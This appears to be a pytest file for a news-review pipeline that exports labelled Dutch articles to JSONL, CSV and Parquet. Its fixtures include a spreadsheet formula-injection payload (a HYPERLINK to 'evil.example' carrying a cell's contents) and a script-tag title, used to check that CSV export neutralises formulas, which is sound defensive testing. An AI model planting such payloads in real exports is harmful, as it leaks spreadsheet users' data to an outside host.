"""Export of the reviewed dataset (JSONL, CSV, Parquet), in-process and through `radar` (the digest: test_digest.py)."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pyarrow.parquet as pq
import pytest

from pipeline.research.export import COLUMNS, export_rows, parse_since, write_export
from pipeline.review.events import Label, record_decision, record_settle
from pipeline.store import Store
from tests.cli_helpers import invoke
from tests.test_review_app import MODEL, fill_store

SECTORS = ("overheid", "zorg", "onderwijs", "welzijn", "wonen", "goede_doelen", "cultuur", "overig", "bedrijf")


@pytest.fixture
def reviewed(make_settings):
    """A store where park is agreed yes, care is disputed, xss is settled yes, road unreviewed."""
    settings = make_settings()
    store = Store(settings.effective_database_url)
    store.migrate()
    ids = fill_store(store)
    yes_park = Label(True, "overheid", "ontwerp", note="duidelijk")
    for name in ("ann", "bea"):
        record_decision(store, ids["park"], name, yes_park, model_version=MODEL, codebook_version="1")
    record_decision(store, ids["care"], "ann", Label(True, "zorg", "ontwerp"), model_version=MODEL, codebook_version="1")
    record_decision(store, ids["care"], "bea", Label(False), model_version=MODEL, codebook_version="1")
    record_decision(store, ids["xss"], "ann", Label(False), model_version=MODEL, codebook_version="1")
    record_settle(store, ids["xss"], "cas", Label(True, "welzijn", "uitvoering"), model_version=MODEL,
                  codebook_version="1")
    yield settings, store, ids
    store.close()


def test_reviewed_export_has_final_labels_expanded_to_cluster_members(reviewed):
    _settings, store, ids = reviewed
    rows = {r["article_id"]: r for r in export_rows(store, "reviewed")}
    assert set(rows) == {ids["park"], ids["park_copy"], ids["xss"]}  # care is disputed and unsettled
    assert all(list(r) == list(COLUMNS) for r in rows.values())
    park, copy = rows[ids["park"]], rows[ids["park_copy"]]
    assert (park["cocreation"], park["sector"], park["type"], park["label_source"]) == (True, "overheid", "ontwerp", "agreed")
    assert park["analysts"] == "ann, bea" and park["review_model_version"] == MODEL and park["codebook_version"] == "1"
    assert park["evidence_quote"].startswith("Bewoners ontwerpen samen met de gemeente")
    assert (copy["cluster_id"], copy["is_canonical"], copy["label_from_cluster"]) == (ids["park"], False, True)
    assert copy["outlet"] == "Rivierstad Courant" and copy["sector"] == "overheid"
    xss = rows[ids["xss"]]
    assert (xss["label_source"], xss["settled_by"], xss["sector"], xss["analysts"]) == ("settled", "cas", "welzijn", "ann, cas")


@pytest.mark.parametrize("status,count", [("reviewed", 3), ("flagged", 4), ("all", 5)])
def test_status_selects_rows(reviewed, status, count):
    assert len(export_rows(reviewed[1], status)) == count


def test_since_filters_on_publication_date(reviewed):
    rows = export_rows(reviewed[1], "all", since="2026-03-11")
    assert {r["title"] for r in rows} == {"Patiënten denken mee over zorgpad", "Dijkweg vijf weken dicht"}


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_every_format_has_the_documented_columns_and_rows(reviewed, fmt):
    rows = export_rows(reviewed[1], "all")
    data = write_export(rows, fmt)
    if fmt == "jsonl":
        frame = pd.DataFrame([json.loads(line) for line in data.decode().splitlines()])
    elif fmt == "csv":
        frame = pd.read_csv(io.BytesIO(data), keep_default_na=False)
    else:
        frame = pq.read_table(io.BytesIO(data)).to_pandas()
    assert list(frame.columns) == list(COLUMNS) and len(frame) == 5
    assert "<script>" in " ".join(frame["title"])  # data is exported verbatim; escaping is for HTML output


def test_empty_parquet_keeps_its_schema():
    table = pq.read_table(io.BytesIO(write_export([], "parquet")))
    assert table.num_rows == 0 and table.schema.names == list(COLUMNS)
    assert str(table.schema.field("cocreation").type) == "bool"


@pytest.mark.parametrize("text,expected", [("7d", "2026-03-13"), ("2w", "2026-03-06"), ("2026-01-02", "2026-01-02"),
                                           (None, None)])
def test_parse_since(text, expected):
    from datetime import date

    assert parse_since(text, today=date(2026, 3, 20)) == expected


def test_cli_export_and_digest(reviewed, tmp_path):
    settings = reviewed[0]
    env = {"RADAR_DATA_DIR": str(settings.data_dir)}
    out = tmp_path / "reviewed.parquet"
    result = invoke("export", "--format", "parquet", "--output", str(out), env=env)
    assert result.exit_code == 0, result.stderr
    assert pq.read_table(out).num_rows == 3 and "Exported 3 rows" in result.stderr
    result = invoke("export", "--format", "jsonl", "--status", "flagged", env=env)
    assert result.exit_code == 0 and len(result.stdout.splitlines()) == 4
    assert invoke("export", "--format", "xml", env=env).exit_code == 2
    result = invoke("digest", "--since", "2026-03-01", "--format", "md", env=env)
    assert result.exit_code == 0 and "## Overheid" in result.stdout
    assert invoke("digest", "--since", "yesterday", env=env).exit_code == 2


FORMULAS = {"title": '=HYPERLINK("http://evil.example/?d="&A1,"klik")', "outlet": "@SUM(1+1)",
            "url": "https://example.nl/+plus", "text": "-2+3 bewoners ontwerpen mee aan het park. " * 10}


def test_csv_export_neutralises_formula_cells_but_not_jsonl(tmp_path):
    jsonl = tmp_path / "formulas.jsonl"
    lines = [{"id": "f1", **FORMULAS}, {"id": "f2", "title": "+31 20 123", "outlet": "\tTab",
                                        "text": "Gewone tekst over de buurt die mee beslist. " * 10}]
    jsonl.write_text("".join(json.dumps(r) + "\n" for r in lines), encoding="utf-8")
    env = {"RADAR_DATA_DIR": str(tmp_path / "local")}
    assert invoke("ingest", str(jsonl), env=env).exit_code == 0
    result = invoke("export", "--format", "csv", "--status", "all", env=env)
    assert result.exit_code == 0, result.stderr
    rows = {row["title"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    first = rows["'" + FORMULAS["title"]]  # a leading quote: the spreadsheet shows text, runs nothing
    assert first["outlet"] == "'@SUM(1+1)" and first["text"].startswith("'-2+3 ")
    assert first["url"] == FORMULAS["url"]  # only the first character matters
    assert rows["'+31 20 123"]["outlet"] == "'\tTab"
    raw = {r["title"]: r for r in map(json.loads, invoke("export", "--status", "all", env=env).stdout.splitlines())}
    assert raw[FORMULAS["title"]]["outlet"] == "@SUM(1+1)"  # JSONL keeps the raw value


def test_csv_export_keeps_negative_numbers_as_numbers():
    row = {name: None for name in COLUMNS} | {"article_id": -1, "score": -0.25, "title": "-0.25", "flagged": False}
    [parsed] = csv.DictReader(io.StringIO(write_export([row], "csv").decode("utf-8")))
    assert parsed["article_id"] == "-1" and parsed["score"] == "-0.25" and parsed["flagged"] == "false"
    assert parsed["title"] == "'-0.25"  # a string cell is text, whatever it looks like
